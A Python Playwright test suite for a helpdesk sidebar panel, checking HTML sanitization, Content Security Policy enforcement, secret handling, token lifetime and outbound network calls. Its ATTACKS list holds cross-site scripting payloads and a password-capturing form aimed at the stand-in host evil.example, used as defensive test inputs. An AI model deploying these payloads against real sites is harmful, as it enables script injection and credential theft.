"""Nothing that somebody else wrote runs, and no secret reaches a browser."""

import pytest
from playwright.sync_api import Request, expect

from app.cli.packaging.files import Kind
from tests.browser.sidebar.seats import Room, Seat
from tests.browser.sidebar.server import SECRET, TOKEN, Cloud
from tests.browser.sidebar.views import ANSWERS, DRAFT, READY, RUNS, SIMILAR, view

ATTACKS = [
    "<img src=x onerror=\"top.document.title='owned'\">",
    "<script>top.document.title='owned'</script>",
    "<svg onload=\"top.document.title='owned'\"><a><script>1</script></a></svg>",
    "<a href=\"javascript:top.document.title='owned'\">click</a>",
    '<p style="position:fixed;inset:0" onclick="top.document.title=\'owned\'">covered</p>',
    "<iframe srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=1>",
    "<form action=https://evil.example><input name=password></form>",
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
]
EVERYWHERE = "<b>bold</b>" + "".join(ATTACKS)


def harmless(seat: Seat) -> None:
    """Take away what the browser says of markup that its rules refused, where it was only read and never shown."""
    assert all("Content Security Policy" in error for error in seat.errors)
    seat.errors.clear()


def poisoned() -> dict[str, object]:
    """Return a view in which every text is hostile."""
    source = {**DRAFT["citations"][0], "title": EVERYWHERE, "url": "javascript:alert(1)", "passage_html": EVERYWHERE}
    chips = {**READY["chips"], "intent": {"name": "x", "title": EVERYWHERE, "probability": 0.9}}
    chips["sentiment"] = {"value": EVERYWHERE, "probability": 0.5}
    why = {"reason": EVERYWHERE, "words": EVERYWHERE, "next_step": EVERYWHERE, "limits": []}
    draft = {**DRAFT, "html": EVERYWHERE + "<p>end [1]</p>", "language": EVERYWHERE, "citations": [source]}
    return view(summary=EVERYWHERE, chips=chips, why=why, draft=draft)


def test_hostile_texts_stay_texts(room: Room, kind: Kind, cloud: Cloud) -> None:
    cloud.api.answers["GET", "tickets/42"] = poisoned()
    seat = room.open(kind)
    seat.panel.locator(".draft summary").last.click()

    expect(seat.panel.get_by_text("end")).to_be_visible()
    kinds = seat.panel.locator("#panel").evaluate(
        "(root) => [...root.querySelectorAll('*')].map((one) => one.localName)"
    )
    assert set(kinds) & {"img", "script", "iframe", "math", "base", "link", "style"} == set()
    bad = "[...document.querySelectorAll('#panel *')].flatMap((one) => [...one.attributes])"
    names = seat.panel.locator("body").evaluate(
        f"() => {bad}.map((one) => one.name).filter((n) => /^on|style/.test(n))"
    )
    assert names == []
    assert seat.panel.locator("#panel a").evaluate_all("(all) => all.map((one) => one.protocol)") == []
    assert seat.page.title() == str(kind)
    harmless(seat)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_inserted_is_clean(room: Room, cloud: Cloud, attack: str) -> None:
    cloud.api.answers["GET", "tickets/42"] = view(draft={**DRAFT, "html": f"<p>Hello</p>{attack}"})
    seat = room.open(Kind.FRESHDESK)
    seat.panel.get_by_role("button", name="Insert", exact=True).click()
    expect(seat.panel.get_by_role("button", name="Insert again")).to_be_visible()

    (html,) = seat.inserted
    assert html.startswith("<p>Hello</p>")
    assert not any(
        word in html for word in ("script", "onerror", "onclick", "style", "src=", "<form", "<input", "href")
    )
    harmless(seat)


def test_pasted_markup_comes_in_as_words(room: Room) -> None:
    seat = room.open(Kind.ZENDESK)
    seat.panel.get_by_role("button", name="Edit").click()
    paste = (
        "(area) => { const held = new DataTransfer(); held.setData('text/html', '<b>x</b><img src=y>');"
        " held.setData('text/plain', 'plain <words>');"
        " area.dispatchEvent(new ClipboardEvent('paste', { clipboardData: held, bubbles: true, cancelable: true })); }"
    )
    seat.panel.locator("#edit").evaluate(paste)

    expect(seat.panel.locator("#edit")).to_contain_text("plain <words>")
    expect(seat.panel.locator("#edit img")).to_have_count(0)


def test_other_answers_are_as_harmless(room: Room, cloud: Cloud) -> None:
    passage = {**ANSWERS["passages"][0], "title": EVERYWHERE, "html": EVERYWHERE}
    cloud.api.answers["POST", "ask"] = {
        "probability": 0.5,
        "passages": [passage, {**passage, "html": None, "text": EVERYWHERE}],
    }
    ticket = {**SIMILAR["tickets"][0], "subject": EVERYWHERE, "outcome": EVERYWHERE, "url": "javascript:alert(1)"}
    cloud.api.answers["GET", "tickets/42/similar"] = {"tickets": [ticket]}
    run = {**RUNS["runs"][0], "words": EVERYWHERE, "reason": EVERYWHERE, "kind": EVERYWHERE, "steps": []}
    cloud.api.answers["GET", "tickets/42/runs"] = {"runs": [run]}
    seat = room.open(Kind.FRESHDESK)
    seat.panel.get_by_role("searchbox").fill("x")
    seat.panel.get_by_role("searchbox").press("Enter")
    expect(seat.panel.locator("#answer-1")).to_be_visible()
    seat.panel.get_by_text("Similar solved tickets").click()
    seat.panel.get_by_text("What happened on this ticket").click()
    expect(seat.panel.locator(".fold li")).to_have_count(2)

    assert seat.page.title() == "freshdesk"
    expect(seat.panel.locator("#panel :is(img, script, iframe, style)")).to_have_count(0)
    harmless(seat)


def test_page_refuses_what_is_inline(room: Room, kind: Kind) -> None:
    seat = room.open(kind)
    expect(seat.panel.get_by_role("button", name="Insert")).to_be_visible()
    add = (
        "(body) => { const script = document.createElement('script'); script.textContent = 'top.owned = true';"
        " body.append(script); body.insertAdjacentHTML('beforeend', '<p id=styled style=\"color:red\">x</p>'); }"
    )
    seat.panel.locator("body").evaluate(add)

    assert seat.page.evaluate("globalThis.owned ?? false") is False
    expect(seat.panel.locator("#styled")).not_to_have_css("color", "rgb(255, 0, 0)")
    assert sum("Content Security Policy" in error for error in seat.errors) == 2
    seat.errors.clear()


def test_calls_from_zendesk_are_signed_for_a_minute(room: Room, cloud: Cloud) -> None:
    panel = room.open(Kind.ZENDESK).panel
    expect(panel.get_by_role("button", name="Insert")).to_be_visible()

    (call,) = cloud.api.calls
    assert call.claims["aud"] == "deskmate"
    assert call.claims["exp"] - call.claims["iat"] == 60
    assert (call.claims["sub"], call.claims["agent"]) == ("7", "agent-01")


def test_no_secret_reaches_the_browser(room: Room, cloud: Cloud, kind: Kind) -> None:
    seat = room.open(kind)
    expect(seat.panel.get_by_role("button", name="Insert")).to_be_visible()

    shipped = b"".join(cloud.apps[kind].values()) + b"".join(cloud.heard)
    said = shipped.decode("utf-8", "replace") + seat.page.content()
    assert READY["summary"] in said
    assert SECRET not in said
    assert TOKEN not in said


def test_panel_talks_to_nobody_else(room: Room, cloud: Cloud, kind: Kind) -> None:
    seat = room.open(kind)
    expect(seat.panel.get_by_role("button", name="Insert")).to_be_visible()
    asked: list[str] = []

    def ask(request: Request) -> None:
        asked.append(request.url)

    seat.page.on("request", ask)
    seat.page.reload()
    expect(seat.panel.get_by_role("button", name="Insert")).to_be_visible()
    seat.page.remove_listener("request", ask)

    places = {url.split("/")[2] for url in asked if url.startswith("http")}
    assert places <= {f"127.0.0.1:{cloud.port}", f"localhost:{cloud.port}", "static.zdassets.com"}
